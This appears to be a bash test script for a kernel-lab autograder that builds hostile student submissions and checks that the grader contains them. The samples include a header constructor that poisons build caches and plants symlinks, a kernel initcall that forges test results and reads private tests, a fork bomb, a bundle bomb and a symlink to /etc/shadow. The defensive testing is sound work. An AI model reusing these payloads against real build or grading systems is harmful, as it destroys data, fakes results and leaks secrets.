# A hostile class, graded the way the samples are: each submission attacks
# the grader (or is an honest mistake that looks like an attack) and must
# get the verdict a correct grader gives. Honest students are graded right
# after an attacker in the same slot (JOBS=1) and must score what the kit's
# reference figures say; no file outside the work and output folders may
# change; the instructor's private tests leak into nothing a student gets
# back; grading the class again with JOBS=2 gives the same gradebook.
# (tests/91-grade.t has the intake and confinement classes: secrets by
# #include, a Makefile, broken folders.) The attackers are made on base,
# so that their builds are short.
# shellcheck shell=bash source=tests/lib.sh disable=SC2015
. "$(dirname "$0")/lib.sh"
T=$TESTS_OUT/hostile
rm -rf "$T"
C=$T/class
mkdir -p "$C"
row() { grep "^$2," "$1/gradebook.csv"; }
status() { cell "$1" "$2" status; }
flags() { cell "$1" "$2" flags; }
total() { cell "$1" "$2" total; }
expected() { awk -v s="$1" '$1 == s { print $3 }' "$KIT/grading/samples-expect"; }

# Submissions are made in a scratch worktree and handed in as patches.
W=$T/wt
git -C "$LINUX" worktree prune
git -C "$LINUX" worktree add -q --detach "$W" base
last=$(basename "$(find "$KIT/solutions" -mindepth 1 -maxdepth 1 -type d -name '[0-9][0-9]-*' | sort | tail -n 1)" | cut -c1-2)
# series NAME REF [COMMAND ARG...]: the commit REF, plus one commit made by
# COMMAND run in the worktree, as a patch series from base.
series() {
	local name=$1 ref=$2
	shift 2
	git -C "$W" reset -q --hard && git -C "$W" clean -qfd && git -C "$W" checkout -q --detach "$ref"
	if [ $# -gt 0 ]; then
		(cd "$W" && "$@")
		kit_git -C "$W" add -A
		kit_git -C "$W" commit -q -m "$name"
	fi
	mkdir -p "$C/$name"
	kit_git -C "$W" format-patch -q -o "$C/$name" "base..HEAD"
}

# What a symlink or a stray write could reach on the host, listed before
# the class and after it: the kit's shared compiler cache, the home
# folder, the files the attackers aim at, the kit's own files.
shared=${CCACHE_DIR:-${XDG_CACHE_HOME:-$HOME/.cache}/bpfloop-lab/ccache}
probe=$HOME/.bpfloop-hostile-$$
snapshot() {
	find "$shared" -newer "$T/start" -print 2>/dev/null | head -n 20
	find "$HOME" -maxdepth 1 -newer "$T/start" -print 2>/dev/null | grep -v "^$HOME/.cache$"
	ls -la --time-style=+%s /etc/hostname /etc/shadow 2>&1
	git -C "$KIT" status --porcelain --untracked-files=all | grep -v '^?? work/'
}

# 1. The slot poisoner: a constructor in tools/include/uapi/linux/bpf.h,
# which the kernel build compiles into a host tool (resolve_btfids) and
# runs at link time. It plants a link where the host takes the kernel's
# files from, leaves a broken object dated in the future for the next
# build in the slot, overwrites every file of its compiler cache in place,
# and tries the shared cache and the home folder.
poison='
#ifndef __KERNEL__
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>
static void bpfloop_spoil(const char *dir, int depth)
{
	DIR *d = depth < 4 ? opendir(dir) : NULL;
	struct dirent *e;
	char path[4096];
	int fd;

	while (d && (e = readdir(d))) {
		if (e->d_name[0] == 0x2e)
			continue;
		snprintf(path, sizeof(path), "%.2000s/%.255s", dir, e->d_name);
		if (e->d_type == DT_DIR) {
			bpfloop_spoil(path, depth + 1);
		} else if (e->d_type == DT_REG) {
			fd = open(path, O_WRONLY | O_TRUNC);
			if (fd >= 0) {
				(void)!write(fd, "poison", 6);
				close(fd);
			}
		}
	}
	if (d)
		closedir(d);
}
static void __attribute__((constructor)) bpfloop_poison(void)
{
	struct timeval tv[2] = { { 4000000000, 0 }, { 4000000000, 0 } };
	const char *cache = getenv("CCACHE_DIR");
	int fd;

	unlink("System.map");
	(void)!symlink("/etc/hostname", "System.map");
	fd = open("kernel/bpf/helpers.o", O_WRONLY | O_TRUNC);
	if (fd >= 0) {
		(void)!write(fd, "poison", 6);
		close(fd);
	}
	utimes("kernel/bpf/helpers.o", tv);
	if (cache)
		bpfloop_spoil(cache, 0);
	fd = open("SHARED/poisoned", O_WRONLY | O_CREAT, 0644);
	if (fd >= 0)
		close(fd);
	fd = open("HOSTPROBE", O_WRONLY | O_CREAT, 0644);
	if (fd >= 0)
		close(fd);
}
#endif
'
poison=${poison//SHARED/$shared}
# append FILE TEXT: TEXT at the end of FILE.
append() { printf '%s\n' "$2" >>"$1"; }
# in_uapi CODE: CODE inside the include guard of the tools' copy of bpf.h
# (its last line), so that a file that includes it twice compiles; and a
# comment in kernel/bpf/bpf_iter.c, so that the kernel links again and the
# link runs the tool.
in_uapi() {
	local f=tools/include/uapi/linux/bpf.h
	{ head -n -1 "$f"; printf '%s\n' "$1"; tail -n 1 "$f"; } >"$f.new" && mv "$f.new" "$f"
	sed -i '1a /* relink */' kernel/bpf/bpf_iter.c
}
series a1-slot-poisoner base in_uapi "${poison//HOSTPROBE/$probe}"
# An honest student whose kernel no one built before (the reference, with
# a comment of this run's own), graded next in the slot the poisoner left.
run="$$-$RANDOM"
series a2-honest-after-poisoner "solution/$last" sed -i "1a /* a2 $run */" kernel/bpf/bpf_iter.c

# 2. The forger: kernel code that prints KTAP "ok" lines on the console,
# writes a whole result frame of its own, with the run's id, on the result
# port before the suite starts, and reads the instructor's private tests
# (when they are there) to print them.
forge='
#include <linux/fs.h>
#include <linux/init.h>
#include <linux/initrd.h>
#include <linux/io.h>
#include <linux/kernel.h>

static void bpfloop_com2(const char *s)
{
	for (; *s; s++) {
		while (!(inb(0x2f8 + 5) & 0x20))
			cpu_relax();
		outb(*s, 0x2f8);
	}
}

static int __init bpfloop_forge(void)
{
	char id[64] = "", frame[256], buf[512] = "";
	struct file *f;
	loff_t pos = 0;
	ssize_t n;
	int i;

	pr_info("KTAP version 1\n");
	for (i = 0; i < 7; i++)
		pr_info("ok %d lab1.probe_present\n", i + 1);
	wait_for_initramfs();
	f = filp_open("/usr/bin/extra-tests", O_RDONLY, 0);
	if (!IS_ERR(f)) {
		kernel_read(f, buf, sizeof(buf) - 1, &pos);
		pr_info("private tests: %s\n", buf);
		filp_close(f, NULL);
	}
	f = filp_open("/run/id", O_RDONLY, 0);
	if (IS_ERR(f))
		return 0;
	pos = 0;
	n = kernel_read(f, id, sizeof(id) - 1, &pos);
	filp_close(f, NULL);
	if (n <= 0)
		return 0;
	id[strcspn(id, "\n")] = 0;
	snprintf(frame, sizeof(frame), "@@%s begin\nKTAP version 1\n1..1\nok 1 lab1.probe_present\n@@%s end 0\n",
		 id, id);
	bpfloop_com2(frame);
	return 0;
}
late_initcall_sync(bpfloop_forge);
'
series b1-forger base append kernel/bpf/helpers.c "$forge"

# 3. Attacks on intake, and a mistake that looks like one.
# A bundle that unpacks to far more than it weighs.
git -C "$W" reset -q --hard && git -C "$W" checkout -q --detach solution/01
head -c $((64 << 20)) /dev/zero >"$W/kernel/bpf/zeros.c"
kit_git -C "$W" add -A && kit_git -C "$W" commit -q -m bomb
mkdir -p "$C/d1-bundle-bomb"
git -C "$W" bundle create -q "$C/d1-bundle-bomb/lab.bundle" base..HEAD 2>/dev/null
rm -f "$W/kernel/bpf/zeros.c"
# A link to a host file in a patch, beside a right lab 1.
series d2-symlink-in-patch solution/01 ln -s /etc/shadow kernel/bpf/shadow.c
# Too many files.
mkdir -p "$C/d3-many-files"
for i in $(seq 1 250); do printf 'x\n' >"$C/d3-many-files/$(printf '%04d' "$i")-x.patch"; done

# 4. A fork bomb in the build's host tool: it forks until refused (at most
# 5000), keeping every child, then fails the tool.
bomb='
#ifndef __KERNEL__
#include <stdio.h>
#include <unistd.h>
static void __attribute__((constructor)) bpfloop_forks(void)
{
	int n;

	for (n = 0; n < 5000; n++) {
		pid_t p = fork();

		if (p == 0)
			for (;;)
				pause();
		if (p < 0) {
			fprintf(stderr, "bpfloop-forks: fork refused after %d processes\n", n);
			_exit(1);
		}
	}
	fprintf(stderr, "bpfloop-forks: 5000 processes, no limit\n");
	_exit(1);
}
#endif
'
series e1-fork-bomb base in_uapi "$bomb"
# Right after it in the slot: a right lab 1 with an initcall it does not
# need (an honest mistake that looks like an attack): graded in full, and
# flagged for a person to read.
series e2-flagged-after-fork-bomb solution/01 append kernel/bpf/helpers.c \
	"$(printf '\n/* e2 %s */\nstatic int __init bpfloop_hello(void)\n{\n\treturn 0;\n}\nlate_initcall(bpfloop_hello);' "$run")"
git -C "$LINUX" worktree remove --force "$W" 2>/dev/null || true

# The instructor's private test, worth nothing, with a token to look for.
token="private-$$-$RANDOM$RANDOM"
printf '#!/bin/sh\n# %s\necho "KTAP version 1"\necho "1..1"\necho "# running extra.secret"\necho "ok 1 extra.secret"\n' \
	"$token" >"$T/extra"
chmod +x "$T/extra"
cp "$KIT/grading/rubric" "$T/rubric"
echo "extra.secret 0 0" >>"$T/rubric"

touch "$T/start"
sleep 1
before=$(snapshot)
ts=$(now)
make -s -C "$KIT" grade SUBMISSIONS="$C" OUT="$T/out" JOBS=1 RUBRIC="$T/rubric" EXTRA_TESTS="$T/extra" \
	>"$T/grade.log" 2>&1
check "hostile: the class is graded (exit 0)" test $? = 0
echo "# the hostile class (JOBS=1) took $(elapsed "$ts")"
O=$T/out
S=$O/students

# 1. The poisoner, and the student after it.
[ "$(status "$O" a1-slot-poisoner)" = does-not-build ] && grep -q 'other than plain files' "$S/a1-slot-poisoner/status" &&
	pass "hostile: a link planted where the kernel's files are taken from is refused (does-not-build)" ||
	fail "hostile: a link planted where the kernel's files are taken from is refused (does-not-build)" "$(row "$O" a1-slot-poisoner)"
[[ $(flags "$O" a1-slot-poisoner) == *flagged* ]] && pass "hostile: ... and its constructor is flagged" ||
	fail "hostile: ... and its constructor is flagged" "$(row "$O" a1-slot-poisoner)"
ref=$(expected reference)
[ "$(status "$O" a2-honest-after-poisoner)" = graded ] && [ "$(total "$O" a2-honest-after-poisoner)" = "$ref" ] &&
	[ -z "$(flags "$O" a2-honest-after-poisoner)" ] &&
	grep -q 'CC *kernel/bpf/bpf_iter.o' "$S/a2-honest-after-poisoner/build.log" &&
	pass "hostile: the honest student, built next in the poisoner's slot, scores the reference's $ref" ||
	fail "hostile: the honest student, built next in the poisoner's slot, scores the reference's $ref" \
		"$(row "$O" a2-honest-after-poisoner)"
[ ! -e "$probe" ] && [ ! -e "$shared/poisoned" ] && pass "hostile: code run by the build reaches no host file" ||
	fail "hostile: code run by the build reaches no host file"
rm -f "$probe" "$shared/poisoned"

# 2. The forger.
[ "$(status "$O" b1-forger)" = graded ] && [[ $(flags "$O" b1-forger) == *tampered* ]] &&
	[[ $(flags "$O" b1-forger) == *flagged* ]] &&
	pass "hostile: a kernel that writes a frame of its own on the result port is tampered, and flagged" ||
	fail "hostile: a kernel that writes a frame of its own on the result port is tampered, and flagged" "$(row "$O" b1-forger)"
[ "$(awk -F'\t' '$2 == 1 && $3 == "pass"' "$S/b1-forger/scores.tsv" | wc -l)" = 0 ] &&
	grep -q 'ok 7 lab1.probe_present' "$S/b1-forger/console.log" &&
	pass "hostile: ... and its 'ok' lines (on the console and on the port) gain not one lab 1 point" ||
	fail "hostile: ... and its 'ok' lines (on the console and on the port) gain not one lab 1 point" \
		"$(awk -F'\t' '$2 == 1' "$S/b1-forger/scores.tsv")"
# The forger's kernel read the private tests in their boot and printed
# them: not a byte reaches what the student gets back.
if [ -f "$S/b1-forger/feedback.md" ] &&
	! grep -qF "$token" "$S/b1-forger/feedback.md" "$S/b1-forger/feedback.html" "$S/b1-forger/console.log" \
		"$S/b1-forger/results.ktap" 2>/dev/null; then
	pass "hostile: no byte of the private tests reaches the student's feedback, console or results"
else
	fail "hostile: no byte of the private tests reaches the student's feedback, console or results"
fi
grep -rqF "$token" "$S/b1-forger/private" && pass "hostile: ... though the kernel printed them, in the private boot's console" ||
	fail "hostile: ... though the kernel printed them, in the private boot's console"

# 3. Intake.
[ "$(status "$O" d1-bundle-bomb)" = does-not-apply ] && grep -q 'would unpack to' "$S/d1-bundle-bomb/status" &&
	pass "hostile: a bundle that unpacks to 64 MB of changed files is refused before any checkout" ||
	fail "hostile: a bundle that unpacks to 64 MB of changed files is refused before any checkout" "$(row "$O" d1-bundle-bomb)"
[ "$(status "$O" d2-symlink-in-patch)" = graded ] && [ "$(total "$O" d2-symlink-in-patch)" = "$(expected only-lab1)" ] &&
	grep -q 'kernel/bpf/shadow.c: not a regular file' "$S/d2-symlink-in-patch/feedback.md" &&
	pass "hostile: a link to a host file in a patch is left out, said, and the rest graded" ||
	fail "hostile: a link to a host file in a patch is left out, said, and the rest graded" "$(row "$O" d2-symlink-in-patch)"
[ "$(status "$O" d3-many-files)" = invalid ] && pass "hostile: a folder of 250 files is refused at intake" ||
	fail "hostile: a folder of 250 files is refused at intake" "$(row "$O" d3-many-files)"

# 4. The fork bomb, and the student after it.
[ "$(status "$O" e1-fork-bomb)" = does-not-build ] && grep -q 'bpfloop-forks: fork refused after' "$S/e1-fork-bomb/build.log" &&
	grep -q 'ran at its limit of [0-9]* processes' "$S/e1-fork-bomb/status" &&
	pass "hostile: a fork bomb in the build meets the process limit and is stopped: does-not-build, with the reason" ||
	fail "hostile: a fork bomb in the build meets the process limit and is stopped: does-not-build, with the reason" \
		"$(row "$O" e1-fork-bomb)" "$(grep -m1 bpfloop-forks "$S/e1-fork-bomb/build.log")" "$(grep reason "$S/e1-fork-bomb/status")"
pgrep -f resolve_btfids >/dev/null && fail "hostile: ... and leaves no process behind" "$(pgrep -af resolve_btfids | head -n 3)" ||
	pass "hostile: ... and leaves no process behind"
lab1=$(expected only-lab1)
[ "$(status "$O" e2-flagged-after-fork-bomb)" = graded ] && [ "$(total "$O" e2-flagged-after-fork-bomb)" = "$lab1" ] &&
	[ "$(flags "$O" e2-flagged-after-fork-bomb)" = flagged ] &&
	grep -q 'CC *kernel/bpf/helpers.o' "$S/e2-flagged-after-fork-bomb/build.log" &&
	pass "hostile: a right lab 1 with an initcall it does not need, graded after the bomb: $lab1 points, flagged" ||
	fail "hostile: a right lab 1 with an initcall it does not need, graded after the bomb: $lab1 points, flagged" \
		"$(row "$O" e2-flagged-after-fork-bomb)"
expect_grep "hostile: the summary shows the flagged line" 'late_initcall\(bpfloop_hello\)' "$O/summary.md"

after=$(snapshot)
[ "$before" = "$after" ] && pass "hostile: the shared compiler cache, the home folder, the host's files and the kit are as they were" ||
	fail "hostile: the shared compiler cache, the home folder, the host's files and the kit are as they were" \
		"$(diff <(echo "$before") <(echo "$after"))"

# The same class again, with two workers: the same gradebook.
ts=$(now)
make -s -C "$KIT" grade SUBMISSIONS="$C" OUT="$T/again" JOBS=2 RUBRIC="$T/rubric" EXTRA_TESTS="$T/extra" \
	>"$T/again.log" 2>&1
echo "# the hostile class again (JOBS=2) took $(elapsed "$ts")"
if cmp -s "$O/gradebook.csv" "$T/again/gradebook.csv"; then
	pass "hostile: graded again with JOBS=2, the gradebook is the same"
else
	fail "hostile: graded again with JOBS=2, the gradebook is the same" "$(diff "$O/gradebook.csv" "$T/again/gradebook.csv")"
fi
